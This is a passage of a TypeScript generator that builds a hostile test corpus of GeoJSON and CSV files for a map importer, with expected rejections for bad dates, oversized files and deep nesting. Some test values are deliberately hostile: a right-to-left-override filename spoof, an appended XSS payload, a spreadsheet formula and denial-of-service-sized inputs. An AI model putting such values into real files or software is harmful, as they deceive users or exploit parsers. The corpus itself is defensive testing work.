      [CSV_HEAD, '2023-09-19,39.8153,46.7528,Stepanakert,invoice\u202egpj.exe'],
      ok('kept exactly', { features: 1, props: [{ feature: 0, key: 'notes', value: 'invoice\u202egpj.exe' }] }),
    ),
    big(
      cc(
        'csv-string-1mb.csv',
        'a 1 MB cell',
        [CSV_HEAD, `2023-09-19,39.8153,46.7528,Stepanakert,${'B'.repeat(MB)}`],
        ok('kept, cut to 2,000 characters', { features: 1, props: [{ feature: 0, key: 'notes', length: 2000 }] }),
      ),
    ),
    cc(
      'csv-long-header.csv',
      'a column name of 100,000 characters',
      [`latitude,longitude,${'h'.repeat(100_000)}`, '39.8153,46.7528,x'],
      ok('the name is cut to 200 characters', {
        features: 1,
        columns: ['latitude', 'longitude', `${'h'.repeat(199)}…`],
      }),
    ),
    cc(
      'csv-long-headers-alike.csv',
      'two long column names that differ only after 200 characters',
      [`latitude,longitude,${'h'.repeat(300)}1,${'h'.repeat(300)}2`, '39.8153,46.7528,x,y'],
      err('duplicate-column', atRow(1), 'columns 3 and 4'),
    ),
    cc(
      'csv-columns-1001.csv',
      '1,001 columns',
      [
        `latitude,longitude,${Array.from({ length: 999 }, (_, i) => `c${i}`).join(',')}`,
        `39.8,46.7${',x'.repeat(999)}`,
      ],
      err('too-many-columns', atRow(1), '1,001 distinct column names'),
    ),
  );
  return cases;
}

function dateCases(): Case[] {
  const family = 'dates' as const;
  const c = (file: string, tests: string, content: () => Uint8Array, expect: Expected): Case => ({
    file: `dates/${file}`,
    family,
    tests,
    content,
    expect,
  });
  const dated = (date: unknown, at = 1) =>
    json(fcOf(...[0, 1, 2].map((i) => feature(point(), { name: `p${i}`, date: i === at ? date : '2023-09-19' }))));
  const badDate = (n: number) => err('bad-date', atFeature(n), 'is not a date');
  const cases: Case[] = [];
  const bad: [string, unknown][] = [
    ['2023-02-30', '2023-02-30'],
    ['2023-02-29', '2023-02-29'],
    ['2023-13-01', '2023-13-01'],
    ['2023-00-10', '2023-00-10'],
    ['2023-09-31', '2023-09-31'],
    ['2023-09-00', '2023-09-00'],
    ['hour-24', '2023-09-19T24:00'],
    ['minute-60', '2023-09-19T23:60'],
    ['second-60', '2023-09-19T13:45:60'],
    ['offset-15h', '2023-09-19T13:45+15:00'],
    ['year-10000', '10000-01-01'],
    ['year-plus-010000', '+010000-01-01'],
    ['year-minus-1', '-0001-01-01'],
    ['unpadded', '2023-9-19'],
    ['day-month-year-slashes', '19/09/2023'],
    ['month-day-year-slashes', '09/19/2023'],
    ['year-only', '2023'],
    ['year-month', '2023-09'],
    ['time-only', '13:45'],
    ['four-digit-fraction', '2023-09-19T13:45:00.1234'],
    ['septober', '19 Septober 2023'],
    ['31-september', '31 September 2023'],
    ['epoch-number', 1695081600000],
    ['boolean', true],
    ['object', { $date: '2023-09-19' }],
    ['array', ['2023-09-19']],
    ['xss', `2023-09-19${XSS.img}`],
    ['bidi', '2023-09-\u202e91'],
    ['100kb', '2'.repeat(100_000)],
  ];
  for (const [label, value] of bad) {
    cases.push(
      c(
        `bad-${label}.geojson`,
        `a date of ${JSON.stringify(value).slice(0, 40)} in feature 2`,
        () => dated(value),
        badDate(2),
      ),
    );
  }
  const good: [string, unknown, number | null][] = [
    ['leap-day-2024', '2024-02-29', local(2024, 2, 29)],
    ['year-9999', '9999-12-31', local(9999, 12, 31)],
    ['year-1900', '1900-01-01', local(1900, 1, 1)],
    ['utc', '2023-09-19T09:45Z', local(2023, 9, 19, 13, 45)],
    ['offset', '2023-09-19T13:45+04:00', local(2023, 9, 19, 13, 45)],
    ['space-separator', '2023-09-19 13:45', local(2023, 9, 19, 13, 45)],
    ['milliseconds', '2023-09-19T13:45:00.123', local(2023, 9, 19, 13, 45) + 123],
    ['day-month-name', '19 September 2023', local(2023, 9, 19)],
    ['abbreviated-month', '19 Sep 2023', local(2023, 9, 19)],
    ['acled-dashes', '19-September-2023', local(2023, 9, 19)],
    ['empty-string', '', null],
    ['spaces', '   ', null],
    ['null', null, null],
  ];
  for (const [label, value, t] of good) {
    cases.push(
      c(
        `good-${label}.geojson`,
        `a date of ${JSON.stringify(value)}`,
        () => dated(value),
        ok(
          t === null
            ? 'accepted; the feature is undated and always shown'
            : 'accepted at the right instant (UTC+4 when no offset is given)',
          { features: 3, dated: t === null ? 2 : 3, times: [{ feature: 1, value: t }] },
        ),
      ),
    );
  }
  const span = (start: unknown, end: unknown, names: [string, string] = ['start_date', 'end_date']) =>
    json(
      fcOf(
        feature(point(), { name: 'a', [names[0]]: '2023-09-19', [names[1]]: '2023-09-20' }),
        feature(point(), { name: 'b', [names[0]]: start, [names[1]]: end }),
      ),
    );
  cases.push(
    c(
      'end-before-start.geojson',
      'an end date a day before the start, in feature 2',
      () => span('2023-09-20', '2023-09-19'),
      err('end-before-start', atFeature(2), 'an event cannot end before it starts'),
    ),
    c(
      'end-before-start-minutes.geojson',
      'an end one minute before the start',
      () => span('2023-09-19T13:45', '2023-09-19T13:44', ['start', 'end']),
      err('end-before-start', atFeature(2), 'an event cannot end before it starts'),
    ),
    c(
      'end-before-start-offsets.geojson',
      'an end that is earlier only once offsets are applied',
      () => span('2023-09-19T10:00Z', '2023-09-19T13:00+04:00'),
      err('end-before-start', atFeature(2), 'is before'),
    ),
    c(
      'end-bad.geojson',
      'an end date of 2023-02-30',
      () => span('2023-09-19', '2023-02-30'),
      err('bad-date', atFeature(2), 'is not a date'),
    ),
    c(
      'end-equals-start.geojson',
      'an end equal to the start',
      () => span('2023-09-19', '2023-09-19'),
      ok('accepted', { features: 2 }),
    ),
    c(
      'end-without-start.geojson',
      'an end date but no start',
      () => span('', '2023-09-19'),
      ok('accepted; undated', { features: 2, dated: 1 }),
    ),
    c('mixed-good-and-bad.geojson', 'feature 3 of 3 has a bad date', () => dated('2023-02-30', 2), badDate(3)),
  );
  const cc = (file: string, tests: string, lines: string[], expect: Expected): Case => ({
    file: `dates/${file}`,
    family,
    tests,
    content: () => csv(...lines),
    expect,
  });
  const row = (date: string) => csvRow(date, STEPANAKERT, 'Stepanakert', 'x');
  const csvBad = (r: number) => err('bad-date', atRow(r), 'is not a date');
  cases.push(
    cc('csv-2023-02-30.csv', '2023-02-30 in row 3', [CSV_HEAD, row('2023-09-19'), row('2023-02-30')], csvBad(3)),
    cc('csv-year-10000.csv', 'year 10000 in row 2', [CSV_HEAD, row('10000-01-01')], csvBad(2)),
    cc('csv-31-september.csv', '31 September 2023 in row 2', [CSV_HEAD, row('31 September 2023')], csvBad(2)),
    cc('csv-us-date.csv', '09/19/2023 in row 2', [CSV_HEAD, row('09/19/2023')], csvBad(2)),
    cc('csv-formula-date.csv', 'a formula for a date', [CSV_HEAD, row('=TODAY()')], csvBad(2)),
    cc(
      'csv-end-before-start.csv',
      'an end before its start in row 3',
      ['latitude,longitude,start_date,end_date', '39.8,46.7,2023-09-19,2023-09-20', '39.8,46.7,2023-09-20,2023-09-19'],
      err('end-before-start', atRow(3), 'an event cannot end before it starts'),
    ),
    cc(
      'csv-end-bad.csv',
      'an end of 2023-02-30',
      ['latitude,longitude,start,end', '39.8,46.7,2023-09-19,2023-02-30'],
      err('bad-date', atRow(2), 'is not a date'),
    ),
    cc(
      'csv-acled-dates.csv',
      'ACLED-style dates',
      [CSV_HEAD, row('19 September 2023'), row('20-Sep-2023'), row('2023-09-21')],
      ok('accepted at local midnight', {
        features: 3,
        times: [
          { feature: 0, value: local(2023, 9, 19) },
          { feature: 1, value: local(2023, 9, 20) },
          { feature: 2, value: local(2023, 9, 21) },
        ],
      }),
    ),
    cc(
      'csv-blank-dates.csv',
      'empty and blank date cells',
      [CSV_HEAD, row(''), row('   ')],
      ok('accepted; undated', { features: 2, dated: 0 }),
    ),
  );
  return cases;
}

/** Files too big to commit, written to e2e/fixtures/hostile-large/ when the end-to-end test runs. */
function sizeCases(limitBytes: number): Case[] {
  const family = 'size' as const;
  const c = (file: string, tests: string, content: () => Uint8Array, expect: Expected, large = true): Case => ({
    file: `size/${file}`,
    family,
    tests,
    content,
    expect,
    large,
  });
  /** A valid collection of one point padded with spaces to exactly `size` bytes. */
  const padded = (size: number) => () => {
    const head = utf8(JSON.stringify(fcOf(feature(point()))));
    const out = new Uint8Array(size).fill(0x20);
    out.set(head);
    return out;
  };
  const points = (n: number, date: string) => () => {
    const next = random(n);
    const parts: string[] = [];
    for (let i = 0; i < n; i++) {
      const lon = (45.5 + next() * 2).toFixed(4);
      const lat = (39 + next() * 1.5).toFixed(4);
      parts.push(
        `{"type":"Feature","properties":{"n":${i},"date":"${date}"},"geometry":{"type":"Point","coordinates":[${lon},${lat}]}}`,
      );
    }
    return utf8(`{"type":"FeatureCollection","features":[${parts.join(',')}]}`);
  };
  const csvRows = (n: number) => () => {
    const next = random(n + 1);
    const lines = ['event_date,latitude,longitude,notes'];
    for (let i = 0; i < n; i++)
      lines.push(`2023-10-10,${(39 + next() * 1.5).toFixed(4)},${(45.5 + next() * 2).toFixed(4)},row ${i}`);
    return utf8(lines.join('\n'));
  };
  const mb = (n: number) => `${(n / 1024 / 1024).toFixed(1)} MB`;
  const vertices = 1_000_001;
  return [
    c(
      'over-cap-60mb.geojson',
      'a 60 MB file: refused before it is read',
      padded(60 * 1024 * 1024),
      err('too-large', FILE, `the file is 60.0 MB; the limit is ${mb(limitBytes)}`),
    ),
    c(
      'over-cap-by-1-byte.geojson',
      'one byte over the limit: the message tells the sizes apart',
      padded(limitBytes + 1),
      err('too-large', FILE, `the file is ${(limitBytes + 1).toLocaleString('en-US')} bytes`),
    ),
    c(
      'at-cap.geojson',
      'exactly at the size limit: one point and spaces',
      padded(limitBytes),
      ok('accepted', { features: 1 }),
    ),
    c(
      'brackets-49mb.geojson',
      '49 MB of "[": refused by the nesting scan, not parsed for seconds',
      () => new Uint8Array(49 * 1024 * 1024).fill(0x5b),
      err('too-deep', FILE, 'nests more than 64 levels deep'),
    ),
    c(
      'vertices-1000001.geojson',
      'a line of 1,000,001 positions',
      () => {
        const next = random(vertices);
        const parts: string[] = [];
        for (let i = 0; i < vertices; i++) parts.push(`[${(46 + next()).toFixed(5)},${(39.5 + next()).toFixed(5)}]`);
        return utf8(
          `{"type":"FeatureCollection","features":[{"type":"Feature","properties":{},"geometry":{"type":"LineString","coordinates":[${parts.join(',')}]}}]}`,
        );
      },
      err('too-many-vertices', FILE, '1,000,001 positions; the limit is 1,000,000'),
    ),
    c(
      'features-100000.geojson',
      "100,000 point features, dated after the page's time",
      points(100_000, '2023-10-10'),
      ok('accepted', { features: 100_000, dated: 100_000 }),
    ),
    c(
      'features-200001.geojson',
      '200,001 point features',
      points(200_001, '2023-10-10'),
      err('too-many-features', FILE, '200,001 features; the limit is 200,000'),
    ),
    c(
      'rows-200001.csv',
      '200,001 CSV rows',
      csvRows(200_001),
      err('too-many-features', FILE, 'more than 200,000 rows'),
    ),
    c(
      'properties-100000.geojson',
      'one feature with 100,000 property names',
      () => json(fcOf(feature(point(), Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`p${i}`, i]))))),
      err('too-many-columns', FILE, '100,000 distinct property names'),
    ),
    c(
      'string-10mb.geojson',
      'a 10 MB property value',
      () => json(fcOf(feature(point(), { notes: 'C'.repeat(10_000_000) }))),
      ok('kept, cut to 2,000 characters', { features: 1, props: [{ feature: 0, key: 'notes', length: 2000 }] }),
    ),
  ];
}

/** Every case, in a fixed order. `limitBytes` is the app's size limit (LIMITS.fileBytes). */
export function buildCases(limitBytes = 50 * 1024 * 1024): Case[] {
  const cases = [
    ...syntaxCases(),
    ...structureCases(),
    ...rfcCases(),
    ...propertyCases(),
    ...dateCases(),
    ...sizeCases(limitBytes),
  ];
  const seen = new Set<string>();
  for (const c of cases) {
    if (seen.has(c.file)) throw new Error(`two cases write ${c.file}`);
    seen.add(c.file);
  }
  return cases;
}

const sha256 = (b: Uint8Array) => createHash('sha256').update(b).digest('hex');

/** The manifest entry of a case, given its content. */
export function entryOf(c: Case, content: Uint8Array): ManifestEntry {
  return {
    file: c.file,
    name: c.name ?? c.file.slice(c.file.lastIndexOf('/') + 1),
    family: c.family,
    tests: c.tests,
    large: c.large ?? false,
    bytes: content.length,
    sha256: sha256(content),
    expect: c.expect,
  };
}

export interface Manifest {
  about: string;
  generator: string;
  entries: ManifestEntry[];
}

export const MANIFEST = 'manifest.json';
/** Keeps git from touching line endings and bytes: the files are exactly what the script wrote. */
export const GITATTRIBUTES = '* -text -diff\n';

/** The manifest as written: one file per line, so a diff shows which case changed. */
export function manifestText(entries: ManifestEntry[]): string {
  const manifest: Manifest = {
    about:
      'The hostile import corpus: each file, its family, what it tests and the outcome the import must give. Written by the generator; do not edit.',
    generator: 'npx tsx scripts/hostile-corpus.ts',
    entries,
  };
  const lines = manifest.entries.map((e) => `    ${JSON.stringify(e)}`);
  return `{\n  "about": ${JSON.stringify(manifest.about)},\n  "generator": ${JSON.stringify(manifest.generator)},\n  "entries": [\n${lines.join(',\n')}\n  ]\n}\n`;
}

/** Writes the committed corpus (small files, manifest) into `dir`, replacing what was there. */
export function writeSmall(dir = CORPUS_DIR, cases = buildCases()): ManifestEntry[] {
  rmSync(dir, { recursive: true, force: true });
  const entries: ManifestEntry[] = [];
  for (const c of cases) {
    const content = c.content();
    entries.push(entryOf(c, content));
    if (c.large) continue;
    const path = join(dir, c.file);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, content);
  }
  writeFileSync(join(dir, MANIFEST), manifestText(entries));
  writeFileSync(join(dir, '.gitattributes'), GITATTRIBUTES);
  return entries;
}

/**
 * Writes the large files into `dir` unless each is already there with the manifest's size and
 * hash. Returns how many were written.
 */
export function ensureLarge(dir = LARGE_DIR, manifest = readManifest()): number {
  const cases = new Map(buildCases().map((c) => [c.file, c]));
  let written = 0;
  for (const e of manifest.entries.filter((x) => x.large)) {
    const path = join(dir, e.file);
    if (existsSync(path) && statSync(path).size === e.bytes && sha256(readFileSync(path)) === e.sha256) continue;
    const c = cases.get(e.file);
    if (!c) throw new Error(`the manifest lists ${e.file}, which the generator does not make`);
    const content = c.content();
    if (sha256(content) !== e.sha256) throw new Error(`${e.file} differs from the manifest: run the generator`);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, content);
    written++;
  }
  return written;
}

export function readManifest(dir = CORPUS_DIR): Manifest {
  return JSON.parse(readFileSync(join(dir, MANIFEST), 'utf8')) as Manifest;
}

/** Every file under `dir`, relative to it. */
export function listFiles(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((d) => d.isFile())
    .map((d) =>
      join(d.parentPath, d.name)
        .slice(dir.length + 1)
        .split('\\')
        .join('/'),
    )
    .sort();
}

// ——— checking outcomes (the data test in Node, the end-to-end test on what the browser stored) ———

/** Every exterior ring counter-clockwise and every hole clockwise. */
function rfcWound(g: Geometry | null): boolean {
  if (!g) return true;
  const polygon = (rings: Position[][]) =>
    rings.every((r, i) => ringSignedArea(r) === 0 || ringSignedArea(r) > 0 === (i === 0));
  switch (g.type) {
    case 'Polygon':
      return polygon(g.coordinates);
    case 'MultiPolygon':
      return g.coordinates.every(polygon);
    case 'GeometryCollection':
      return g.geometries.every(rfcWound);
    default:
      return true;
  }
}

/** What does not hold of an accepted file's layer; empty when everything does. */
export function acceptFailures(layer: ImportedLayer, check: AcceptCheck): string[] {
  const out: string[] = [];
  const same = (what: string, got: unknown, want: unknown) => {
    if (JSON.stringify(got) !== JSON.stringify(want)) {
      out.push(`${what}: expected ${JSON.stringify(want)?.slice(0, 200)}, got ${JSON.stringify(got)?.slice(0, 200)}`);
    }
  };
  same('features', layer.features.length, check.features);
  if (check.dated !== undefined) same('dated', layer.stats.dated, check.dated);
  if (check.outsideRegion !== undefined) same('outsideRegion', layer.stats.outsideRegion, check.outsideRegion);
  if (check.swapped !== undefined) same('swapped', layer.stats.swapped ?? 0, check.swapped);
  if (check.rewoundRings !== undefined) same('rewoundRings', layer.stats.rewoundRings, check.rewoundRings);
  if (check.columns) same('columns', layer.columns, check.columns);
  for (const p of check.props ?? []) {
    const props = layer.features[p.feature]?.props ?? {};
    const has = Object.hasOwn(props, p.key);
    const value = has ? props[p.key] : undefined;
    if (!has) out.push(`feature ${p.feature}: no property ${JSON.stringify(p.key).slice(0, 80)}`);
    else if (p.length !== undefined)
      same(`feature ${p.feature} ${p.key} length`, typeof value === 'string' ? value.length : -1, p.length);
    else same(`feature ${p.feature} ${p.key.slice(0, 80)}`, value, p.value);
  }
  for (const key of check.absent ?? []) {
    if (layer.columns.includes(key)) out.push(`column ${key} is kept`);
    if (layer.features.some((f) => Object.hasOwn(f.props, key))) out.push(`property ${key} is kept`);
  }
  if (check.geometry)
    same(
      `feature ${check.geometry.feature} geometry`,
      layer.features[check.geometry.feature]?.geometry,
      check.geometry.value,
    );
  if (check.coordinates) {
    same(
      `feature ${check.coordinates.feature} coordinates`,
      layer.features[check.coordinates.feature]?.coordinates,
      check.coordinates.value,
    );
  }
  if (check.rfcWinding && !layer.features.every((f) => rfcWound(f.geometry)))
    out.push('a ring is not in RFC 7946 order');
  for (const t of check.times ?? []) same(`feature ${t.feature} time`, layer.features[t.feature]?.t, t.value);
  return out;
}

/** The start every message about this file has: its name, then the feature or row. */
export function messageStart(name: string, where: { file: true } | { feature: number } | { row: number }): string {
  const file = visible(name, 120);
  if ('feature' in where) return `${file}, feature ${where.feature} (features[${where.feature - 1}]`;
  if ('row' in where) return `${file}, row ${where.row}`;
  return `${file}: `;
}

const isMain = process.argv[1] !== undefined && resolve(process.argv[1]) === fileURLToPath(import.meta.url);
if (isMain) {
  const t0 = performance.now();
  const entries = writeSmall();
  const small = entries.filter((e) => !e.large);
  const total = small.reduce((n, e) => n + e.bytes, 0);
  console.log(
    `${entries.length} cases; ${small.length} files, ${(total / 1024 / 1024).toFixed(2)} MB in ${CORPUS_DIR}`,
  );
  for (const f of FAMILIES) {
    const of = entries.filter((e) => e.family === f);
    const accepted = of.filter((e) => e.expect.outcome === 'accepted').length;
    console.log(`  ${f.padEnd(11)} ${String(of.length).padStart(3)} (${accepted} accepted)`);
  }
  if (process.argv.includes('--large')) console.log(`${ensureLarge()} large files written to ${LARGE_DIR}`);
  console.log(`${((performance.now() - t0) / 1000).toFixed(1)} s`);
}
